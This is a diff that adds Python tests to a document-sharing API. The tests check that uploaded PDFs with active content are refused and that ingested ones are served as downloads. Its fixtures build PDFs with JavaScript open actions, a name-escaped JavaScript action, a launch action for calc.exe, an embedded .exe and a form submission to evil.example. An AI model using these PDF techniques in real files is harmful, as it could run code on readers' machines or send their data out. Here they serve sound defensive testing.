@@ -230,6 +230,96 @@ def test_uploaded_html_is_downloaded_never_rendered(built):
                 headers["content-security-policy"]
 
 
+# -- issue 18, item 14: PDFs with active content are refused at upload, downloaded when ingested -------
+
+
+def raw_pdf(catalog: bytes = b"", page: bytes = b"", extra: list[bytes] | None = None) -> bytes:
+    """A one-page PDF with text, written by hand: `catalog` and `page` go into those dictionaries,
+    `extra` objects are numbered from 6 on."""
+    text = b"BT /F1 12 Tf 20 700 Td (Cluster export vouchers for Baltic SMEs.) Tj ET"
+    objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
+               b"/Resources << /Font << /F1 5 0 R >> >> " + page + b" >>",
+               b"<< /Length %d >>stream\n" % len(text) + text + b"\nendstream",
+               b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", *(extra or [])]
+    out, offsets = bytearray(b"%PDF-1.6\n"), []
+    for number, body in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
+    return bytes(out)
+
+
+def pypdf_pdf(with_: str) -> bytes:
+    from pypdf import PdfReader, PdfWriter
+    from pypdf.actions import JavaScript
+
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(raw_pdf())))
+    if with_ == "script":
+        writer.add_open_action(JavaScript("app.alert('hello');"))
+    else:
+        writer.add_attachment("invoice.exe", b"MZ not really a program")
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+ACTIVE_PDFS = {
+    "open-action-javascript": (raw_pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
+                               "JavaScript"),
+    "escaped-name": (raw_pdf(catalog=b"/OpenAction << /S /J#61vaScript /JS 6 0 R >>",
+                             extra=[b"<< /Length 12 >>stream\napp.alert(1)\nendstream"]), "JavaScript"),
+    "page-launch": (raw_pdf(page=b"/AA << /O << /S /Launch /F (calc.exe) >> >>"), "a launch action"),
+    "document-script": (pypdf_pdf("script"), "JavaScript"),
+    "embedded-file": (pypdf_pdf("attachment"), "embedded files"),
+    "submit-form": (raw_pdf(catalog=b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"),
+                    "form submission"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(ACTIVE_PDFS))
+def test_uploads_with_active_content_are_refused(built, case):
+    data, kind = ACTIVE_PDFS[case]
+    with client_for(built) as client:
+        response = client.post("/contributions", data={"metadata": json.dumps(RECORD)},
+                               files={"file": ("offer.pdf", data, "application/pdf")})
+        assert response.status_code == 422, response.text
+        assert f"the PDF holds active content ({kind}" in response.json()["error"]["message"]
+        assert client.get("/moderation/contributions", headers=AUTH).json()["total"] == 0
+
+
+def test_a_plain_pdf_with_links_and_a_go_to_is_accepted_and_shown_inline(built):
+    plain = raw_pdf(catalog=b"/OpenAction [3 0 R /Fit]",
+                    page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] "
+                         b"/A << /S /URI /URI (https://example.org/) >> >>]")
+    with client_for(built) as client:
+        receipt = client.post("/contributions", data={"metadata": json.dumps(RECORD)},
+                              files={"file": ("plain.pdf", plain, "application/pdf")})
+        assert receipt.status_code == 201, receipt.text
+        item_id = client.post(f"/moderation/contributions/{receipt.json()['id']}/approve", headers=AUTH).json()["item_id"]
+        served = client.get(f"/items/{item_id}/file")
+        assert served.headers["content-disposition"].startswith("inline")
+
+
+def test_an_ingested_pdf_with_active_content_is_served_as_a_download(settings, tmp_path):
+    folder = tmp_path / "docs"
+    folder.mkdir()
+    (folder / "scripted.pdf").write_bytes(ACTIVE_PDFS["open-action-javascript"][0])
+    (folder / "scripted.meta.yaml").write_text("id: scripted\ntitle: Scripted guide\n")
+    (folder / "plain.pdf").write_bytes(raw_pdf())
+    (folder / "plain.meta.yaml").write_text("id: plain\ntitle: Plain guide\n")
+    with KnowledgeBase(settings) as kb:
+        assert kb.ingest([folder]).skipped == []
+    with client_for(settings) as client:
+        scripted, plain = client.get("/items/scripted/file"), client.get("/items/plain/file")
+    assert scripted.status_code == plain.status_code == 200
+    assert scripted.headers["content-disposition"].startswith("attachment")
+    assert plain.headers["content-disposition"].startswith("inline")
+
+
 # -- 6. one upload never freezes the API -------------------------------------------------------------
 
 
